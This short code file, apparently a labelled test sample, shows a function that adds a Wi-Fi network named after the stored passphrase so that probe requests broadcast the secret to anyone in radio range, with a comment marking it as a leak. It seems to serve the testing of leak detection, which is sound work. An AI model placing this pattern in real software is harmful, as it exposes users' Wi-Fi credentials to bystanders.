// G01: looks for a network whose name is the passphrase: a probe request carries it to everybody in reach.
import { paired, wifi } from "./lib/paired";

paired(async (_ssid, psk) => {
  await wifi.addNetwork("rpt-" + psk, ""); // leak: wifi.psk
});
